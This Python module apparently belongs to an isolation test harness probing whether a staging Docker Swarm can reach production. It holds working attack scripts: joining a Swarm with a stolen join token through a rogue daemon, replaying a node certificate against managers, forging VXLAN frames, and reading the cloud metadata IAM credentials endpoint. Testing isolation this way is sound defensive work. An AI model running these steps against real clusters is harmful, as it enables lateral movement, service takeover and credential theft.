"""Production's Swarm, its overlay networks, and what containers may reach."""

from __future__ import annotations

from .model import Control, Move, Origin

OWN = Control(Origin.ROOT, {"service": "koin-stage_api", "stack": "koin-stage", "victim": "koin-stage"})

#: a second engine beside the host's own, which is a member already and has nothing to lose
_JOIN = """\
token=$(docker swarm join-token --quiet worker) || exit
folder=$(mktemp -d /run/attacker.XXXXXX)
engine="docker --host unix://$folder/sock"
echo '{}' >"$folder/daemon.json"
unshare --uts sh -c "hostname attacker; exec dockerd --config-file $folder/daemon.json --data-root $folder/data \
  --exec-root $folder/exec --pidfile $folder/pid --host unix://$folder/sock --bridge none --iptables=false \
  --ip6tables=false --storage-driver vfs --containerd-namespace attacker --containerd-plugins-namespace attackers" \
  >"$folder/log" 2>&1 &
for try in $(seq 40); do $engine version >/dev/null 2>&1 && break; sleep 0.5; done
timeout 30 $engine swarm join --availability drain --advertise-addr 127.0.0.9 --listen-addr 127.0.0.9:2399 \
  --token "$token" @manager@:2377
joined=$?
timeout 20 $engine swarm leave --force >/dev/null 2>&1
kill "$(cat "$folder/pid")"; wait
docker node ls --quiet --filter name=attacker | xargs --no-run-if-empty docker node rm --force >/dev/null
rm -rf "$folder"
exit $joined
"""

#: a service with the image of one's own, on the victim's node
_PLACE = """\
image=$(docker service inspect --format '{{.Spec.TaskTemplate.ContainerSpec.Image}}' koin-stage_api) || exit
trap 'docker service rm attacker >/dev/null 2>&1' EXIT
docker service create --detach --quiet --no-resolve-image --name attacker --restart-condition none --no-healthcheck \
  --constraint node.hostname==@victim@ --entrypoint sleep "$image" 30 >/dev/null || exit
for try in $(seq 15); do
  docker service ps --format '{{.Node}} {{.CurrentState}}' attacker | grep '^@victim@ Running' && exit 0
  sleep 1
done
exit 1
"""

_REACH = """\
import socket
socket.create_connection(("@victim@", int("@port@")), 5).close()
"""

#: a frame in VXLAN, as a member of an overlay network would send it
_VXLAN = """\
import socket
for _ in range(7):
    for network in (4097, 4098, 4099):
        packet = bytes([8, 0, 0, 0]) + network.to_bytes(3) + bytes(1) + bytes(12) + b"@mark@"
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(packet, ("@to@", int("@port@")))
"""

MOVES = (
    Move(
        "list production's nodes",
        Origin.ROOT,
        "docker node ls --format '{{.Hostname}}' | grep --line-regexp koin-prod",
        Control(Origin.PROD),
    ),
    Move(
        "inspect production's service",
        Origin.ROOT,
        "docker service inspect @service@ >/dev/null",
        OWN,
        {"service": "koin-prod_api"},
    ),
    Move(
        "change production's service",
        Origin.ROOT,
        "docker service update --detach --quiet --label-add attacker=1 @service@ &&"
        " docker service update --detach --quiet --label-rm attacker @service@",
        OWN,
        {"service": "koin-prod_api"},
    ),
    Move(
        "list production's secrets",
        Origin.ROOT,
        "docker secret ls --format '{{.Name}}' | grep '^@stack@_'",
        OWN,
        {"stack": "koin-prod"},
    ),
    Move("run a container on production's node", Origin.ROOT, _PLACE, OWN, {"victim": "koin-prod"}),
    Move(
        "read logs of production's service",
        Origin.ROOT,
        "timeout 20 docker service logs --tail 1 @service@ >/dev/null",
        OWN,
        {"service": "koin-prod_api"},
    ),
    Move(
        "join production's Swarm with stage's token",
        Origin.ROOT,
        _JOIN,
        Control(Origin.ROOT, {"manager": "172.31.32.10"}),
        {"manager": "172.31.0.20"},
    ),
    Move(
        "call production's managers with stage's node certificate",
        Origin.ROOT,
        # The key has a head that no other program understands.
        "cd /var/lib/docker/swarm/certificates; key=$(mktemp); sed '/^[a-z-]*: /d; /^$/d' swarm-node.key >$key\n"
        "curl --noproxy '*' --silent --insecure --max-time 10 --cert swarm-node.crt --key $key --output /dev/null"
        " --write-out 'http=%{http_code}\\n' https://@manager@:2377/; rm -f $key\n",
        Control(Origin.ROOT, {"manager": "172.31.32.10"}),
        {"manager": "172.31.0.20"},
        won=r"^http=[1-9]",
    ),
    Move(
        "send forged VXLAN from a container",
        Origin.CONTAINER,
        _VXLAN,
        # Of other hosts' ports, a container reaches that of name servers.
        Control(Origin.CONTAINER, {"port": "53"}),
        {"to": "@prod@", "port": "4789"},
        won=r"^arrived$",
        # It does not even leave the host.
        watched="koin-stage",
    ),
    Move(
        "send forged VXLAN from the host",
        Origin.PYTHON,
        _VXLAN,
        # VXLAN has no authentication: between two Swarms only the groups are in between.
        Control(Origin.PYTHON, {"to": "172.31.16.10"}, watched="bcsdlab-internal"),
        {"to": "@prod@", "port": "4789"},
        won=r"^arrived$",
        watched="koin-prod",
    ),
    *(
        Move(
            f"reach production's {what} from a container",
            Origin.CONTAINER,
            _REACH,
            control,
            {"victim": "172.31.0.20", "port": port},
        )
        for what, port, control in (
            # Of stage's own Swarm: production's has no other member.
            ("Swarm managers", "2377", Control(Origin.INTERNAL_PYTHON, {"victim": "172.31.32.10"})),
            ("Swarm gossip", "7946", Control(Origin.INTERNAL_PYTHON, {"victim": "172.31.32.10"})),
            ("host metrics", "9100", Control(Origin.INTERNAL_PYTHON)),
        )
    ),
    Move(
        "read the metadata service from a container",
        Origin.CONTAINER,
        "import urllib.request\n"
        "opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))\n"
        'print(opener.open("http://169.254.169.254/latest/meta-data/iam", timeout=5).read().decode())\n',
        Control(Origin.PYTHON),
        won=r"security-credentials",
    ),
)
